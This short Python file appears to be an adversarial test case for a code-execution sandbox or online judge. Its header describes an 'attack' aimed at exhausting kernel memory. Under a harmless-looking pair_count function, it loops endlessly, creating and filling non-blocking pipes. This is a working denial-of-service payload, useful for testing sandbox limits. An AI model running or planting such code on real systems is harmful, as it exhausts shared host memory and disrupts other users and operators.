# /// attack
# aim = "Makes pipes, enlarges and fills them: memory of the kernel that no limit of the process counts."
# outcome = ["RTE"]
# naive = "crashed or hung"
# ///

import os


def pair_count(numbers, target):
    while True:
        _, writing = os.pipe()
        os.set_blocking(writing, False)
        os.write(writing, b"x" * 65_536)
